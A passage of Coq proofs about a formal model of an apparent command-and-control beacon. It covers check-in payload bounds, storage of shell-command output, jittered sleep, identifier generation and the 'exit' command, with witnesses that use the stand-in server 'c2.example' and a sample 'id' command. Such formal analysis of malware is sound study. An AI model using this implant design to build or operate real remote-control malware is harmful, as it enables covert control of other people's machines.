Lemma results_loop_bound rs : forall i buf offset,
  0 <= offset -> strlen (content buf) <= MAX_BUFFER_SIZE - 1 ->
  strlen (content (fst (results_loop i rs buf offset))) <= MAX_BUFFER_SIZE - 1
  /\ 0 <= snd (results_loop i rs buf offset).
Proof.
  induction rs as [| r rest IH]; intros i buf offset Ho Hb; cbn.
  - split; assumption.
  - destruct (offset <? MAX_BUFFER_SIZE - 256); [| split; assumption].
    pose proof (snprintf_at_bound MAX_BUFFER_SIZE buf offset (result_json i r)
                  Ho Hb) as Hk.
    pose proof (snprintf_at_offset MAX_BUFFER_SIZE buf offset (result_json i r))
      as Hn.
    destruct (snprintf_at MAX_BUFFER_SIZE buf offset (result_json i r))
      as [buf' n].
    cbn [fst snd] in Hk, Hn. apply IH; [| exact Hk].
    pose proof (strlen_nonneg (result_json i r)). lia.
Qed.

(** X19. Whatever the configuration, the snapshot and the queued results
    are, the payload either check-in function leaves in its array is a
    string of at most [MAX_BUFFER_SIZE - 1] bytes, and the header block
    one of at most 1023. *)
Theorem payload_is_cut_to_its_array
    (config : beacon_config_t) (sysinfo : option system_info_t)
    (results : option (list command_result_t)) (result_count : Z) :
  let http := http_checkin_request config sysinfo results result_count in
  let https := https_checkin_request config sysinfo results result_count in
  strlen (content (req_json http)) <= MAX_BUFFER_SIZE - 1
  /\ strlen (content (req_json https)) <= MAX_BUFFER_SIZE - 1
  /\ strlen (req_headers http) <= 1023
  /\ strlen (req_headers https) <= 1023.
Proof.
  assert (Hs : forall s, strlen (snprintf MAX_BUFFER_SIZE s)
                         <= MAX_BUFFER_SIZE - 1)
    by (intros s; apply snprintf_bound; reflexivity).
  assert (Hh : strlen (checkin_headers config) <= 1023)
    by (apply (snprintf_bound 1024); reflexivity).
  assert (Hr : forall rs, strlen (content (results_checkin_json config rs
                                             result_count))
                          <= MAX_BUFFER_SIZE - 1).
  { intros rs. unfold results_checkin_json.
    rewrite snprintf_at_start by reflexivity.
    destruct (results_loop_bound (take (Z.to_nat result_count) rs) O
                (mk_cbuf (snprintf MAX_BUFFER_SIZE (results_header_json config))
                         false)
                (strlen (results_header_json config))
                (strlen_nonneg _) (Hs _)) as [Hb Ho].
    destruct (results_loop 0 (take (Z.to_nat result_count) rs) _ _)
      as [b1 offset1].
    cbn [fst snd] in Hb, Ho. apply snprintf_at_bound; assumption. }
  cbv zeta. unfold http_checkin_request, https_checkin_request.
  destruct sysinfo as [si |]; cbn [req_json req_headers content];
    [repeat split; auto |].
  destruct results as [rs |]; [| cbn [req_json req_headers content];
                                 repeat split; auto].
  destruct (result_count >? 0); cbn [req_json req_headers content];
    repeat split; auto.
Qed.

Lemma results_loop_small rs : forall i buf offset,
  overflow buf = false -> offset <= MAX_BUFFER_SIZE - 1 ->
  Forall (fun r => forall j, strlen (result_json j r) <= 256) rs ->
  overflow (fst (results_loop i rs buf offset)) = false
  /\ snd (results_loop i rs buf offset) <= MAX_BUFFER_SIZE - 1.
Proof.
  induction rs as [| r rest IH]; intros i buf offset Hov Ho Hall; cbn.
  - split; assumption.
  - destruct (Z.ltb_spec offset (MAX_BUFFER_SIZE - 256)) as [Hlt | Hge];
      [| split; assumption].
    inversion Hall as [| ? ? Hr Hrest]; subst.
    unfold snprintf_at.
    destruct (Z.ltb_spec offset MAX_BUFFER_SIZE);
      [| unfold MAX_BUFFER_SIZE in *; lia].
    apply IH; [exact Hov | | exact Hrest].
    specialize (Hr i). unfold MAX_BUFFER_SIZE in *. lia.
Qed.

(** X20. Result records of at most 256 bytes each, the margin the loop of
    [http_checkin] keeps free, never make a write leave the payload
    array, however many are queued. *)
Theorem small_records_stay_in_the_array
    (config : beacon_config_t) (results : list command_result_t)
    (result_count : Z) :
  strlen (beacon_id config) < BEACON_ID_LEN ->
  Forall (fun r => forall j, strlen (result_json j r) <= 256)
         (take (Z.to_nat result_count) results) ->
  overflow (results_checkin_json config results result_count) = false.
Proof.
  intros Hid Hall. unfold results_checkin_json.
  rewrite snprintf_at_start by reflexivity.
  assert (Hh : strlen (results_header_json config) <= MAX_BUFFER_SIZE - 1).
  { rewrite results_header_json_opening, strlen_app, payload_opening_length.
    change (strlen (lit "," ++ jkey "command_results" ++ lit "[")) with 20.
    unfold BEACON_ID_LEN, MAX_BUFFER_SIZE in *. lia. }
  destruct (results_loop_small (take (Z.to_nat result_count) results) O
              (mk_cbuf (snprintf MAX_BUFFER_SIZE (results_header_json config))
                       false)
              (strlen (results_header_json config)) eq_refl Hh Hall)
    as [Hov Ho].
  destruct (results_loop 0 (take (Z.to_nat result_count) results) _ _)
    as [b1 offset1].
  cbn [fst snd] in Hov, Ho. unfold snprintf_at.
  destruct (Z.ltb_spec offset1 MAX_BUFFER_SIZE); [exact Hov | lia].
Qed.

Lemma small_records_stay_in_the_array_witness :
  strlen (beacon_id (sample_config "http://c2.example/api")) < BEACON_ID_LEN
  /\ overflow (results_checkin_json (sample_config "http://c2.example/api")
                 (replicate 64 (sample_result "c1" "done")) 64) = false.
Proof.
  split; [vm_compute; reflexivity |].
  apply (small_records_stay_in_the_array
           (sample_config "http://c2.example/api")
           (replicate 64 (sample_result "c1" "done")) 64).
  - vm_compute. reflexivity.
  - apply Forall_take, Forall_replicate.
    intros [| j]; vm_compute; discriminate.
Defined.

(** ** More on the output of a shell command *)

Lemma shell_read_loop_whole size fuel : forall stream out total,
  no_nul stream = true -> total = strlen (content out) ->
  (length stream <= fuel)%nat -> total + strlen stream < size - 1 ->
  shell_read_loop fuel size stream out total
  = (mk_cbuf (content out ++ stream) (overflow out), total + strlen stream).
Proof.
  induction fuel as [| fuel IH]; intros stream out total Hnn Htot Hfuel Hfit.
  - destruct stream; [| cbn in Hfuel; lia].
    cbn. rewrite app_nil_r, Z.add_0_r. destruct out; reflexivity.
  - cbn [shell_read_loop].
    destruct (fgets 1024 stream) as [[buffer rest] |] eqn:Eg.
    2: { unfold fgets in Eg. destruct stream; [| discriminate].
         rewrite app_nil_r, Z.add_0_r. destruct out; reflexivity. }
    destruct (fgets_split _ _ _ Eg) as [-> [Hb1 Hb2]].
    rewrite no_nul_app in Hnn. apply andb_prop in Hnn as [Hnb Hnr].
    rewrite (c_str_no_nul buffer Hnb).
    rewrite strlen_app in Hfit.
    pose proof (strlen_nonneg rest). pose proof (strlen_nonneg buffer).
    destruct (Z.ltb_spec total (size - 1)); [| lia].
    destruct (Z.ltb_spec (total + strlen buffer) (size - 1)); [| lia].
    rewrite IH.
    + cbn [content overflow strcpy_at].
      rewrite Htot, take_strlen, <- app_assoc, strlen_app.
      replace (size <? strlen (content out) + strlen buffer + 1) with false
        by (symmetry; apply Z.ltb_ge; lia).
      rewrite orb_false_r. f_equal. lia.
    + exact Hnr.
    + cbn. rewrite Htot, take_strlen, strlen_app. reflexivity.
    + rewrite length_app in Hfuel. lia.
    + lia.
Qed.

(** X21. An output without NUL bytes that is shorter than
    [MAX_OUTPUT_SIZE - 1] is stored whole, with the success flag of the
    exit status. *)
Theorem short_output_is_stored_whole
    (cmdline : cstring) (h : host_env) (stream : list ascii) (status : Z) :
  popen h cmdline = PopenRuns stream status ->
  no_nul stream = true -> strlen stream < MAX_OUTPUT_SIZE - 1 ->
  execute_shell_command cmdline MAX_OUTPUT_SIZE h
  = (if status =? 0 then 1 else 0, mk_cbuf stream false, [EvPopen cmdline]).
Proof.
  intros Hp Hnn Hlen. unfold execute_shell_command. rewrite Hp.
  rewrite (shell_read_loop_whole MAX_OUTPUT_SIZE (length stream) stream
             cbuf_empty 0 Hnn eq_refl (le_n _)) by lia.
  reflexivity.
Qed.

Lemma short_output_is_stored_whole_witness :
  no_nul (lit "uid=0(root)" ++ [LF]) = true
  /\ execute_shell_command (lit "id") MAX_OUTPUT_SIZE
       (mk_host (lit "2024-05-01T10:00:00Z")
                (fun _ => PopenRuns (lit "uid=0(root)" ++ [LF]) 0)
                (Some (lit "/tmp")))
     = (1, mk_cbuf (lit "uid=0(root)" ++ [LF]) false, [EvPopen (lit "id")]).
Proof.
  split; [reflexivity |].
  apply (short_output_is_stored_whole (lit "id")
           (mk_host (lit "2024-05-01T10:00:00Z")
                    (fun _ => PopenRuns (lit "uid=0(root)" ++ [LF]) 0)
                    (Some (lit "/tmp")))
           (lit "uid=0(root)" ++ [LF]) 0);
    [reflexivity | reflexivity | vm_compute; reflexivity].
Defined.

Lemma no_nul_c_str raw : no_nul (c_str raw) = true.
Proof.
  induction raw as [| c raw IH]; [reflexivity |].
  cbn. destruct (Ascii.eqb c NUL) eqn:E; [reflexivity |].
  unfold no_nul in *. cbn. rewrite E, IH. reflexivity.
Qed.

Lemma shell_read_loop_no_nul size fuel : forall stream out total,
  no_nul (content out) = true -> total = strlen (content out) ->
  no_nul (content (fst (shell_read_loop fuel size stream out total))) = true.
Proof.
  induction fuel as [| fuel IH]; intros stream out total Hn Htot; cbn.
  - exact Hn.
  - destruct (fgets 1024 stream) as [[buffer rest] |]; [| exact Hn].
    destruct (total <? size - 1); [| exact Hn].
    destruct (total + strlen (c_str buffer) <? size - 1); [| exact Hn].
    apply IH.
    + cbn. rewrite Htot, take_strlen, no_nul_app, Hn, no_nul_c_str.
      reflexivity.
    + cbn. rewrite Htot, take_strlen, strlen_app. reflexivity.
Qed.

(** X22. Whatever bytes the subprocess prints, the stored output holds
    no NUL byte, so it is printed whole into a result record; and when
    the subprocess cannot be started the result is the failure flag with
    a fixed message. *)
Theorem stored_output_is_a_string (cmdline : cstring) (h : host_env) :
  let '(rc, out, _) := execute_shell_command cmdline MAX_OUTPUT_SIZE h in
  no_nul (content out) = true
  /\ c_str (content out) = content out
  /\ (popen h cmdline = PopenFails ->
      rc = 0 /\ content out = lit "Error: Failed to execute command").
Proof.
  unfold execute_shell_command.
  destruct (popen h cmdline) as [| stream status].
  - cbn. repeat split; reflexivity.
  - pose proof (shell_read_loop_no_nul MAX_OUTPUT_SIZE (length stream) stream
                  cbuf_empty 0 eq_refl eq_refl) as Hn.
    destruct (shell_read_loop (length stream) MAX_OUTPUT_SIZE stream
                cbuf_empty 0) as [out total].
    cbn [fst] in Hn. split; [exact Hn |].
    split; [apply c_str_no_nul, Hn | discriminate].
Qed.

(** ** More on the sleep of a round *)

(** X23. With a positive jitter and no [int] overflow, the sleep of a
    round is the base plus the offset [rand mod (2 * range + 1) - range]
    for the range of [base * jitter / 100] seconds, raised to 1 when it
    is less; so it lies between the base minus and plus the range. *)
Theorem sleep_stays_in_the_jitter_window (base jp rand : Z) :
  0 <= base -> 0 < jp -> base * (100 + jp) <= 2147483647 ->
  0 <= rand <= 2147483647 ->
  let range := base * jp / 100 in
  sleep_with_jitter base jp rand
  = Z.max 1 (base + (rand mod (2 * range + 1) - range))
  /\ Z.max 1 (base - range) <= sleep_with_jitter base jp rand
     <= Z.max 1 (base + range).
Proof.
  intros Hb Hj Hov Hr range.
  destruct (sleep_with_jitter_formula base jp rand Hb Hj Hov Hr) as [Hoff Heq].
  fold range in Hoff, Heq. split; [exact Heq |]. rewrite Heq. lia.
Qed.

Lemma sleep_stays_in_the_jitter_window_witness :
  0 <= 300
  /\ Z.max 1 (300 - 300 * 50 / 100) <= sleep_with_jitter 300 50 123456789
     <= Z.max 1 (300 + 300 * 50 / 100).
Proof.
  split; [lia |].
  apply (sleep_stays_in_the_jitter_window 300 50 123456789); lia.
Defined.

(** X24. With a positive jitter percent the sleep is at least one second
    for every base and every value of [rand], overflow or not.  With a
    jitter percent of zero or less the base is passed to [sleep] as it
    is, whatever [rand] is, and is read there as an [unsigned int]: a
    base from 0 on is slept as it is, so a base of 0 is no pause at all,
    and a negative base is slept as 4294967296 seconds plus the base. *)
Theorem sleep_floor_needs_jitter (base jp rand : Z) :
  -2147483648 <= base <= 2147483647 ->
  (0 < jp -> 1 <= sleep_with_jitter base jp rand <= 2147483647)
  /\ (jp <= 0 -> 0 <= base -> sleep_with_jitter base jp rand = base)
  /\ (jp <= 0 -> base < 0 ->
      sleep_with_jitter base jp rand = 4294967296 + base).
Proof.
  intros Hb. split; [| split].
  - intros Hj. split; [apply sleep_with_jitter_floor, Hj |].
    unfold sleep_with_jitter.
    destruct (Z.gtb_spec jp 0); [| lia].
    match goal with
    | |- context [wrap_int ?y <? 1] =>
        pose proof (wrap_int_range y); destruct (Z.ltb_spec (wrap_int y) 1)
    end; rewrite to_unsigned_small by lia; lia.
  - intros Hj H0. unfold sleep_with_jitter.
    destruct (Z.gtb_spec jp 0); [lia |]. apply to_unsigned_small. lia.
  - intros Hj H0. unfold sleep_with_jitter.
    destruct (Z.gtb_spec jp 0); [lia |]. unfold to_unsigned.
    rewrite <- (Z.mod_add base 1 4294967296) by lia.
    rewrite Z.mod_small; lia.
Qed.

Lemma sleep_floor_needs_jitter_witness :
  -2147483648 <= -5 <= 2147483647
  /\ sleep_with_jitter (-5) 0 7 = 4294967291.
Proof.
  split; [lia |].
  apply (sleep_floor_needs_jitter (-5) 0 7); lia.
Defined.

(** ** Results over the TLS scheme *)

Lemma https_checkin_ignores_results decode config rs1 n1 rs2 n2 o :
  https_checkin decode config None rs1 n1 o
  = https_checkin decode config None rs2 n2 o.
Proof. reflexivity. Qed.

(** X25. With a URL of the [https://] scheme a successful round empties
    the result buffer although nothing of it was transmitted: what the
    round sends, and every other effect of it, is the same whatever is
    queued. *)
Theorem https_round_drops_queued_results
    (config : beacon_config_t) (e : cycle_env) (st : beacon_state)
    (raw : list ascii) :
  starts_with (lit "https://") (server_url config) = true ->
  net e = NetReply raw -> parse_status raw = 200 ->
  let '(st', evs) := beacon_cycle parse_commands_json config e st in
  result_buffer st' = []
  /\ g_result_count st' = 0
  /\ forall other : beacon_state,
       snd (beacon_cycle parse_commands_json config e other) = evs.
Proof.
  intros Hs Hn Hst.
  pose proof (beacon_cycle_program config e st) as Hstate.
  pose proof (beacon_cycle_program_events config e st) as Hev.
  destruct (beacon_cycle parse_commands_json config e st) as [st' evs].
  cbn [fst snd] in Hstate, Hev.
  rewrite Hn, checkin_reply, Hst in Hstate. cbn in Hstate.
  subst st'. split; [reflexivity |]. split; [reflexivity |].
  intros other. rewrite beacon_cycle_program_events, Hev.
  unfold checkin. rewrite Hs.
  rewrite (https_checkin_ignores_results _ _ (Some (g_results other))
             (g_result_count other) (Some (g_results st)) (g_result_count st)).
  reflexivity.
Qed.

Lemma https_round_drops_queued_results_witness :
  starts_with (lit "https://")
    (server_url (sample_config "https://c2.example/api")) = true
  /\ result_buffer
       (fst (beacon_cycle parse_commands_json
               (sample_config "https://c2.example/api")
               (mk_cycle 3 (reply "HTTP/1.1 200 OK" "{}") (fun _ => quiet_host))
               (running_with [sample_result "c1" "done"]))) = [].
Proof.
  split; [reflexivity |].
  pose proof (https_round_drops_queued_results
                (sample_config "https://c2.example/api")
                (mk_cycle 3 (reply "HTTP/1.1 200 OK" "{}") (fun _ => quiet_host))
                (running_with [sample_result "c1" "done"])
                (lit "HTTP/1.1 200 OK" ++ CRLF ++ CRLF ++ lit "{}")
                eq_refl eq_refl eq_refl) as H.
  destruct (beacon_cycle parse_commands_json _ _ _) as [st' evs].
  destruct H as [H _]. exact H.
Defined.

(** ** The generated identifier *)

Lemma hex_digits_length n : forall v, length (hex_digits n v) = n.
Proof.
  induction n as [| n IH]; intros v; cbn; [reflexivity |].
  rewrite length_app, IH. cbn. lia.
Qed.

Lemma hex_digit_is_hex d : 0 <= d < 16 -> is_hex (hex_digit d) = true.
Proof.
  intros Hd.
  assert (H : d = 0 \/ d = 1 \/ d = 2 \/ d = 3 \/ d = 4 \/ d = 5 \/ d = 6
              \/ d = 7 \/ d = 8 \/ d = 9 \/ d = 10 \/ d = 11 \/ d = 12
              \/ d = 13 \/ d = 14 \/ d = 15) by lia.
  repeat (destruct H as [-> | H]; [reflexivity |]). subst d. reflexivity.
Qed.

Lemma hex_digits_are_hex n : forall v, forallb is_hex (hex_digits n v) = true.
Proof.
  induction n as [| n IH]; intros v; cbn [hex_digits]; [reflexivity |].
  rewrite forallb_app, IH. cbn [forallb].
  rewrite hex_digit_is_hex by (apply Z.mod_pos_bound; lia). reflexivity.
Qed.

Lemma hex_width_bound v k :
  0 <= v < 2 ^ (4 * Z.of_nat k) -> (1 <= k)%nat -> (hex_width v <= k)%nat.
Proof.
  intros Hv Hk. unfold hex_width.
  destruct (Z.eq_dec v 0) as [-> | Hne];
    [change (Z.log2 0 / 4 + 1) with 1; lia |].
  assert (Hlog : Z.log2 v < 4 * Z.of_nat k)
    by (apply Z.log2_lt_pow2; lia).
  pose proof (Z.log2_nonneg v).
  assert (Z.log2 v / 4 < Z.of_nat k)
    by (apply Z.div_lt_upper_bound; lia).
  assert (0 <= Z.log2 v / 4) by (apply Z.div_pos; lia).
  lia.
Qed.

Lemma fmt_0x_exact k v :
  0 <= v < 2 ^ (4 * Z.of_nat k) -> (1 <= k)%nat ->
  fmt_0x k v = hex_digits k v.
Proof.
  intros Hv Hk. unfold fmt_0x.
  rewrite Nat.max_l by (apply hex_width_bound; assumption). reflexivity.
Qed.

Lemma low_word_bound r : 0 <= to_unsigned (Z.land r 65535) < 2 ^ (4 * Z.of_nat 4).
Proof.
  change 65535 with (Z.ones 16). rewrite Z.land_ones by lia.
  unfold to_unsigned.
  pose proof (Z.mod_pos_bound r (2 ^ 16) ltac:(lia)) as Hm.
  rewrite (Z.mod_small (r mod 2 ^ 16)) by lia.
  change (2 ^ (4 * Z.of_nat 4)) with (2 ^ 16). exact Hm.
Qed.

Lemma unsigned_bound r : 0 <= to_unsigned r < 2 ^ (4 * Z.of_nat 8).
Proof.
  unfold to_unsigned. change (2 ^ (4 * Z.of_nat 8)) with 4294967296.
  apply Z.mod_pos_bound. lia.
Qed.

(** X26. Whatever [rand] returns, the identifier [generate_uuid] leaves
    in its buffer has 36 bytes and fits the array of 37: five groups of
    8, 4, 4, 4 and 12 lower-case hexadecimal digits with a dash between
    them; nothing of it is cut. *)
Theorem generated_identifier_shape (r1 r2 r3 r4 r5 r6 : Z) :
  exists a b c d e : cstring,
    generate_uuid r1 r2 r3 r4 r5 r6
    = a ++ lit "-" ++ b ++ lit "-" ++ c ++ lit "-" ++ d ++ lit "-" ++ e
    /\ (length a = 8 /\ length b = 4 /\ length c = 4 /\ length d = 4
        /\ length e = 12)%nat
    /\ forallb is_hex (a ++ b ++ c ++ d ++ e) = true
    /\ strlen (generate_uuid r1 r2 r3 r4 r5 r6) = 36
    /\ strlen (generate_uuid r1 r2 r3 r4 r5 r6) < BEACON_ID_LEN.
Proof.
  unfold generate_uuid.
  rewrite !(fmt_0x_exact 8) by (try apply unsigned_bound; lia).
  rewrite !(fmt_0x_exact 4) by (try apply low_word_bound; lia).
  set (a := hex_digits 8 (to_unsigned r1)).
  set (b := hex_digits 4 (to_unsigned (Z.land r2 65535))).
  set (c := hex_digits 4 (to_unsigned (Z.land r3 65535))).
  set (d := hex_digits 4 (to_unsigned (Z.land r4 65535))).
  set (e1 := hex_digits 8 (to_unsigned r5)).
  set (e2 := hex_digits 4 (to_unsigned (Z.land r6 65535))).
  assert (Ha : length a = 8%nat) by apply hex_digits_length.
  assert (Hb : length b = 4%nat) by apply hex_digits_length.
  assert (Hc : length c = 4%nat) by apply hex_digits_length.
  assert (Hd : length d = 4%nat) by apply hex_digits_length.
  assert (He1 : length e1 = 8%nat) by apply hex_digits_length.
  assert (He2 : length e2 = 4%nat) by apply hex_digits_length.
  set (text := a ++ lit "-" ++ b ++ lit "-" ++ c ++ lit "-" ++ d ++ lit "-"
               ++ e1 ++ e2).
  assert (Hlen : length text = 36%nat).
  { unfold text. rewrite !length_app, Ha, Hb, Hc, Hd, He1, He2. reflexivity. }
  assert (Hwhole : snprintf BEACON_ID_LEN text = text).
  { unfold snprintf. apply take_ge. rewrite Hlen.
    unfold BEACON_ID_LEN. lia. }
  rewrite Hwhole.
  exists a, b, c, d, (e1 ++ e2). split; [reflexivity |].
  split; [rewrite length_app; repeat split; lia |].
  split.
  - rewrite !forallb_app. unfold a, b, c, d, e1, e2.
    rewrite !hex_digits_are_hex. reflexivity.
  - unfold strlen. rewrite Hlen. split; reflexivity.
Qed.

(** ** Reading a payload back *)

Lemma decode_result_plain r rest :
  plain_result r = true ->
  decode_result (result_json O r ++ rest)
  = Some (command_id r, negb (success r =? 0), output r, timestamp r, rest).
Proof.
  unfold plain_result. intros H.
  apply andb_prop in H as [H Ht]. apply andb_prop in H as [Hc Ho].
  unfold result_json, decode_result.
  rewrite app_nil_l, <- !app_assoc.
  rewrite expect_app. cbn [mbind option_bind].
  rewrite (decode_field_jstr "command_id") by exact Hc. cbn [mbind option_bind].
  rewrite expect_app. cbn [mbind option_bind].
  rewrite expect_app. cbn [mbind option_bind].
  rewrite decode_bool_app. cbn [mbind option_bind].
  rewrite expect_app. cbn [mbind option_bind].
  rewrite (decode_field_jstr "output") by exact Ho. cbn [mbind option_bind].
  rewrite expect_app. cbn [mbind option_bind].
  rewrite (decode_field_jstr "timestamp") by exact Ht. cbn [mbind option_bind].
  rewrite expect_app. reflexivity.
Qed.

Lemma expect_app3 a b c s : expect (a ++ b ++ c) (a ++ b ++ c ++ s) = Some s.
Proof.
  replace (a ++ b ++ c ++ s) with ((a ++ b ++ c) ++ s)
    by (rewrite <- !app_assoc; reflexivity).
  apply expect_app.
Qed.

Lemma results_json_later i rs : results_json (S i) rs = results_json 1 rs.
Proof.
  revert i. induction rs as [| r rest IH]; intros i; [reflexivity |].
  cbn [results_json]. rewrite (IH (S i)), (IH 1%nat). reflexivity.
Qed.

Lemma results_json_cons_later r rest :
  results_json 1 (r :: rest)
  = lit "," ++ result_json O r ++ results_json 1 rest.
Proof.
  cbn [results_json]. rewrite results_json_later.
  unfold result_json. rewrite app_nil_l, <- !app_assoc. reflexivity.
Qed.

Lemma decode_results_plain rs : forall r fuel tail,
  plain_result r = true -> forallb plain_result rs = true ->
  (length rs < fuel)%nat -> expect (lit ",") tail = None ->
  decode_results fuel (result_json O r ++ results_json 1 rs ++ tail)
  = Some (map result_fields (r :: rs), tail).
Proof.
  induction rs as [| r' rest IH]; intros r fuel tail Hr Hrs Hfuel Htail;
    (destruct fuel as [| fuel]; [cbn in Hfuel; lia |]);
    cbn [decode_results]; rewrite decode_result_plain by exact Hr.
  - cbn [results_json app]. rewrite Htail. reflexivity.
  - cbn [forallb] in Hrs. apply andb_prop in Hrs as [Hr' Hrest].
    rewrite results_json_cons_later, <- !app_assoc, expect_app.
    rewrite IH by (auto; cbn [length] in Hfuel; lia).
    reflexivity.
Qed.

(** The result-bearing shape is read back when its strings are plain. *)
Lemma decode_payload_plain config rs :
  plain (beacon_id config) = true -> forallb plain_result rs = true ->
  decode_payload (result_bearing_shape config rs)
  = Some (beacon_id config, PLACEHOLDER_TIMESTAMP, map result_fields rs).
Proof.
  intros Hid Hrs.
  unfold result_bearing_shape, results_header_json, decode_payload.
  rewrite <- !app_assoc.
  rewrite expect_app. cbn [mbind option_bind].
  rewrite (decode_field_jstr "beacon_id") by exact Hid.
  cbn [mbind option_bind].
  rewrite expect_app. cbn [mbind option_bind].
  rewrite (decode_field_jstr "timestamp") by reflexivity.
  cbn [mbind option_bind].
  rewrite expect_app3. cbn [mbind option_bind].
  destruct rs as [| r rest].
  - reflexivity.
  - cbn [forallb] in Hrs. apply andb_prop in Hrs as [Hr Hrest].
    assert (Hopen : expect (lit "]}")
                      (results_json 0 (r :: rest) ++ lit "]}") = None).
    { cbn [results_json]. unfold result_json. reflexivity. }
    rewrite Hopen. cbn [results_json].
    rewrite <- !app_assoc.
    assert (Hfuel : (length rest
                     < length (result_json 0 r ++ results_json 1 rest
                               ++ lit "]}"))%nat).
    { rewrite !length_app.
      assert (length rest <= length (results_json 1 rest))%nat.
      { clear. induction rest as [| x rest IH]; [cbn; lia |].
        rewrite results_json_cons_later, !length_app.
        change (length (lit ",")) with 1%nat.
        change (length (x :: rest)) with (S (length rest)). lia. }
      change (length (lit "]}")) with 2%nat. lia. }
    rewrite (decode_results_plain rest r _ (lit "]}") Hr Hrest Hfuel eq_refl).
    reflexivity.
Qed.

(** The body of a result-bearing request whose records fit. *)
Lemma results_request_body config results result_count :
  0 < result_count ->
  fits_payload config (take (Z.to_nat result_count) results) ->
  req_data (http_checkin_request config None (Some results) result_count)
  = Some (result_bearing_shape config (take (Z.to_nat result_count) results)).
Proof.
  intros Hpos Hfit. unfold http_checkin_request.
  destruct (Z.gtb_spec result_count 0); [| lia].
  cbn [req_data]. rewrite results_checkin_json_fits by exact Hfit.
  reflexivity.
Qed.



(** ** The acknowledgement of the termination verb *)

Lemma command_result_exit cmd h :
  command cmd = lit "exit" ->
  command_result cmd h
  = mk_result (take 63 (id cmd)) 1 (lit "Beacon shutting down") (clock h).
Proof.
  intros Hc. unfold command_result, execute_command. rewrite Hc. reflexivity.
Qed.

(** X28. A round whose check-in delivers [exit] as its first command is
    the last one: the loop returns 0 after it without using the inputs of
    any later round, and the result that acknowledges the command is
    still queued when it returns; no request carries it. *)
Theorem exit_acknowledgement_stays_queued
    (decode : cstring -> list command_t) (config : beacon_config_t)
    (e : cycle_env) (rest : list cycle_env) (st : beacon_state)
    (trace : list io_event) (cmd : command_t) (commands : list command_t)
    (evs : list io_event) :
  length (g_results st) = 64%nat -> g_running st <> 0 ->
  checkin decode config None (Some (g_results st)) (g_result_count st) (net e)
  = (0, cmd :: commands, evs) ->
  command cmd = lit "exit" ->
  exists st',
    beacon_main_loop decode config (e :: rest) st trace
    = Returned 0 st' (trace ++ snd (beacon_cycle decode config e st))
    /\ head (result_buffer st')
       = Some (mk_result (take 63 (id cmd)) 1 (lit "Beacon shutting down")
                         (clock (host e O)))
    /\ occurrences is_send (snd (beacon_cycle decode config e st))
       = occurrences is_send evs.
Proof.
  intros Hlen Hrun Hck Hexit. cbn [beacon_main_loop].
  destruct (Z.eqb_spec (g_running st) 0); [contradiction |].
  unfold beacon_cycle. rewrite Hck. cbn [Z.eqb].
  set (cleared := mk_state (g_sysinfo st) (g_running st) (g_results st) 0).
  pose proof (process_commands_buffer (cmd :: commands) O (host e) cleared
                Hlen ltac:(cbn; lia)) as (Hbuf & _ & _).
  pose proof (process_commands_events (cmd :: commands) O (host e) cleared)
    as Hev.
  assert (Hstop : g_running (fst (process_commands (cmd :: commands) 0
                                    (host e) cleared)) = 0).
  { cbn [process_commands]. cbn [g_result_count cleared]. cbn [Z.ltb Z.compare].
    pose proof (execute_command_exit cmd (host e O) (g_running cleared) Hexit)
      as Hx.
    destruct (execute_command cmd (host e O) (g_running cleared))
      as [[[r running] ov] evs0].
    cbn [fst snd] in Hx. subst running.
    match goal with
    | |- context [process_commands commands 1 (host e) ?s] =>
        pose proof (process_commands_keeps_stopped commands 1 (host e) s eq_refl)
          as Hk
    end.
    destruct (process_commands commands 1 (host e) _) as [st'' evs'].
    exact Hk. }
  destruct (process_commands (cmd :: commands) 0 (host e) cleared)
    as [st' evs'].
  cbn [fst snd] in Hbuf, Hstop, Hev.
  exists st'. split; [| split].
  - destruct rest; cbn [beacon_main_loop]; rewrite Hstop; reflexivity.
  - rewrite Hbuf.
    change (result_buffer cleared) with (take 0 (g_results st)).
    change (64 - Z.to_nat (g_result_count cleared))%nat with 64%nat.
    rewrite take_0, app_nil_l.
    change (take 64 (cmd :: commands)) with (cmd :: take 63 commands).
    rewrite imap_cons. cbn [head].
    rewrite command_result_exit by exact Hexit. reflexivity.
  - destruct (only_popen_occurrences _ Hev) as [_ Hs].
    cbn [snd]. rewrite occurrences_cons, occurrences_app, Hs.
    cbn [is_send]. lia.
Qed.

Lemma exit_acknowledgement_stays_queued_witness :
  g_running (running_with []) <> 0
  /\ exists st',
       beacon_main_loop
         (fun _ : cstring => [mk_command (lit "c1") (lit "exit") []])
         (sample_config "http://c2.example/api")
         [mk_cycle 3 (reply "HTTP/1.1 200 OK" "{}") (fun _ => quiet_host);
          mk_cycle 3 (reply "HTTP/1.1 200 OK" "{}") (fun _ => quiet_host)]
         (running_with []) []
       = Returned 0 st'
           ([] ++ snd (beacon_cycle
                         (fun _ : cstring =>
                            [mk_command (lit "c1") (lit "exit") []])
                         (sample_config "http://c2.example/api")
                         (mk_cycle 3 (reply "HTTP/1.1 200 OK" "{}")
                                   (fun _ => quiet_host))
                         (running_with [])))
       /\ head (result_buffer st')
          = Some (mk_result (take 63 (lit "c1")) 1 (lit "Beacon shutting down")
                            (clock quiet_host)).
Proof.
  split; [discriminate |].
  destruct (exit_acknowledgement_stays_queued
              (fun _ : cstring => [mk_command (lit "c1") (lit "exit") []])
              (sample_config "http://c2.example/api")
              (mk_cycle 3 (reply "HTTP/1.1 200 OK" "{}") (fun _ => quiet_host))
              [mk_cycle 3 (reply "HTTP/1.1 200 OK" "{}") (fun _ => quiet_host)]
              (running_with []) []
              (mk_command (lit "c1") (lit "exit") []) []
              (snd (checkin
                      (fun _ : cstring => [mk_command (lit "c1") (lit "exit") []])
                      (sample_config "http://c2.example/api") None
                      (Some (g_results (running_with [])))
                      (g_result_count (running_with []))
                      (reply "HTTP/1.1 200 OK" "{}"))))
    as (st' & Hloop & Hhead & _);
    [reflexivity | discriminate | vm_compute; reflexivity | reflexivity |].
  exists st'. split; [exact Hloop | exact Hhead].
Defined.

(** ** The payloads that are sent: framing *)






(** A payload that its array cuts is no document of the wire format,
    although every string in it is plain and no write leaves the array. *)
Example cut_payload_is_not_a_document :
  let config := sample_config "http://c2.example/api" in
  let r := mk_result (lit "c1") 1 (replicate (Z.to_nat 8004) (ascii_of_nat 97))
                     (lit "2024-05-01T10:00:00Z") in
  plain_result r = true
  /\ overflow (results_checkin_json config [r] 1) = false
  /\ exists body,
       req_data (http_checkin_request config None (Some [r]) 1) = Some body
       /\ strlen body = 8191
       /\ decode_payload body = None.
Proof.
  cbv zeta. split; [vm_compute; reflexivity |].
